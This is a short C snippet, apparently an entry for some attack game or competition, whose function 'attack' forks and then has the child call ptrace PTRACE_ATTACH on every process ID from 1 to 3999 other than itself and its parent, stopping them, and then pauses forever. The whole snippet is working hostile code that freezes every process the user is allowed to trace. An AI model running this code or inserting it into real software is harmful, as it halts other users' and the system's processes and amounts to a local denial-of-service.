// Traces every process that it can, and stops it.
// Points: any
#include <sys/ptrace.h>
#include <unistd.h>
static void attack(void)
{
    if (fork())
        return;
    for (int pid = 1; pid < 4000; pid++)
        if (pid != getpid() && pid != getppid())
            ptrace(PTRACE_ATTACH, pid, 0, 0);
    for (;;)
        pause();
}
